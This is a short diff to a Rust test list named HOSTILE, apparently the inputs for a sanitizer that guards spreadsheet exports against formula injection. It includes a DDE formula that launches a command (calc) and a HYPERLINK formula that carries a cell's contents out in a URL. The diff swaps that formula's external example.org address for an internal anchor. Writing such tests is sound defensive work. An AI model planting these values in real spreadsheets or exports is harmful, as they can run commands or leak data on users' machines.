@@ -12,7 +12,7 @@ const HOSTILE: [&str; 14] = [
     "+44 1632 960000",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://example.org/?\"&A1,\"Ada\")",
+    "=HYPERLINK(\"#elsewhere\"&A1,\"Ada\")",
     "\u{a0} =2+2",
     "\u{200b}=1+1",
     "＝1+1",
